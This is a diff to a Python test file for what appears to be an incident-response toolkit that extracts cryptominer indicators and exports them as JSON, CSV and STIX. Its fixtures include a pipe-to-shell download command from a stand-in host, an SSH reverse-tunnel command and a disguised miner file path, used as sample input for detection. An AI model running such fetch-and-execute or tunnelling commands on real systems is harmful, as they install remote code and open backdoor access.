@@ -3,19 +3,23 @@
 import csv
 import io
 import json
+import shutil
+import subprocess
+from pathlib import Path
 
 import pytest
 from minersample import synthetic_monero_wallet
 
+from irkit.analysis.heuristics import tunnel_ioc
+from irkit.analysis.iocexport import iocs_csv, iocs_json, iocs_stix
 from irkit.analysis.iocs import (
+    Ioc,
     download_iocs,
-    iocs_csv,
     iocs_from_argv,
     iocs_from_command,
     iocs_from_config,
-    iocs_json,
-    iocs_stix,
 )
+from irkit.analysis.tunnels import parse_tunnel
 from irkit.analysis.wallets import classify_wallet, find_wallets
 from irkit.hunt.around import around_in_data
 from irkit.hunt.hits import MatchedString, YaraHit, excerpt
@@ -107,23 +111,69 @@ def test_corrupt_config_falls_back_to_text() -> None:
     assert ("wallet", WALLET) in found
 
 
-def test_outputs_json_csv_and_stix() -> None:
-    iocs = iocs_from_argv(["m", "-o", "stratum+tcp://1.2.3.4:3333", "-u", WALLET + ".w"], "pid 1")
-    assert {i["ioc_type"] for i in json.loads(iocs_json(iocs))} >= {"pool-url", "wallet"}
+def every_kind_of_ioc() -> list[Ioc]:
+    """Pool, wallet, worker, algorithm, download URL and host, tunnel endpoint, c2, file."""
+    argv = ["m", "-o", "stratum+tcp://1.2.3.4:3333", "-u", WALLET + ".rig7", "-a", "rx/0"]
+    iocs = iocs_from_argv(argv, "command line of pid 1")
+    iocs += download_iocs("curl -s http://dl.evil.test/x.sh | sh", "cron /etc/crontab:2")
+    tunnel = parse_tunnel(["ssh", "-NR", "9000:127.0.0.1:22", "-p", "2222", "a@198.51.100.4"])
+    assert tunnel is not None
+    endpoint = tunnel_ioc(tunnel, "command line of pid 2", "cmdline")
+    assert endpoint is not None
+    file = Ioc("file", "/tmp/.x/kw'orker", "exe", detail={"sha256": "ab" * 32}, source="process")
+    c2 = Ioc("c2", "[2001:db8::7]:443", "socket", detail={"host": "2001:db8::7", "port": 443})
+    return [*iocs, endpoint, file, c2]
+
+
+STIX_VALUES = {
+    "stratum+tcp://1.2.3.4:3333", "1.2.3.4", 3333, WALLET, "rig7", "http://dl.evil.test/x.sh",
+    "dl.evil.test", "198.51.100.4", 2222, "ab" * 32,
+}  # fmt: skip
+
+
+def test_json_and_csv_keep_types_and_integers() -> None:
+    iocs = every_kind_of_ioc()
+    assert {i["ioc_type"] for i in json.loads(iocs_json(iocs))} >= {"pool-url", "wallet", "file"}
     rows = list(csv.DictReader(io.StringIO(iocs_csv(iocs).decode())))
-    assert {r["type"] for r in rows} >= {"pool-url", "wallet", "worker"}
-    bundle = json.loads(iocs_stix(iocs, host="h"))
-    assert bundle["type"] == "bundle"
-    indicators = [o for o in bundle["objects"] if o["type"] == "indicator"]
-    patterns = {o["pattern"] for o in indicators}
-    assert "[url:value = 'stratum+tcp://1.2.3.4:3333']" in patterns
-    assert "[ipv4-addr:value = '1.2.3.4']" in patterns
-    for obj in bundle["objects"]:
-        assert obj["spec_version"] == "2.1"
-        assert obj["id"].startswith(obj["type"] + "--")
-    note = next(o for o in bundle["objects"] if o["type"] == "note")
-    assert "worker: w" in note["content"]
-    assert set(note["object_refs"]) == {o["id"] for o in indicators}
+    by_type = {r["type"]: r for r in rows}
+    assert by_type["tunnel-endpoint"]["port"] == "2222"
+    assert by_type["pool-host"]["port"] == "3333"
+    assert by_type["wallet"]["validated"] == "true"
+    assert by_type["wallet"]["port"] == "" and by_type["file"]["port"] == ""
+
+
+def test_stix_is_strictly_valid_deterministic_and_converts_to_misp(tmp_path: Path) -> None:
+    """The real stix2-validator (`--strict`) and misp-stix, as a CTI team would run them."""
+    iocs = every_kind_of_ioc()
+    data = iocs_stix(iocs, host="h")
+    bundle = json.loads(data)
+    patterns = " ".join(o.get("pattern", "") for o in bundle["objects"])
+    assert "file:name = 'kw\\'orker'" in patterns and "'/tmp/.x'" in patterns, "a full path"
+    assert "x-" not in patterns, "STIX's own observable types only"
+    again = json.loads(iocs_stix(iocs, host="h"))
+    assert [o["id"] for o in again["objects"]] == [o["id"] for o in bundle["objects"]]
+    path = tmp_path / "iocs.stix.json"
+    path.write_bytes(data)
+    validator = shutil.which("stix2_validator")
+    assert validator is not None, "stix2-validator is a test dependency"
+    done = subprocess.run([validator, "--strict", str(path)], capture_output=True, text=True)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "STIX JSON: Valid" in done.stdout
+    assert set(misp_values(data)) >= STIX_VALUES
+
+
+def misp_values(data: bytes) -> list[object]:
+    """Every attribute value of the MISP event misp-stix makes of a STIX bundle."""
+    import stix2
+    from misp_stix_converter import ExternalSTIX2toMISPParser
+
+    parser = ExternalSTIX2toMISPParser()
+    parser.load_stix_bundle(stix2.parse(data.decode(), allow_custom=False))
+    parser.parse_stix_bundle()
+    event = parser.misp_event
+    values: list[object] = [a.value for a in event.attributes]
+    values += [a.value for o in event.objects for a in o.attributes]
+    return values
 
 
 STOCK_CONFIG = json.dumps(
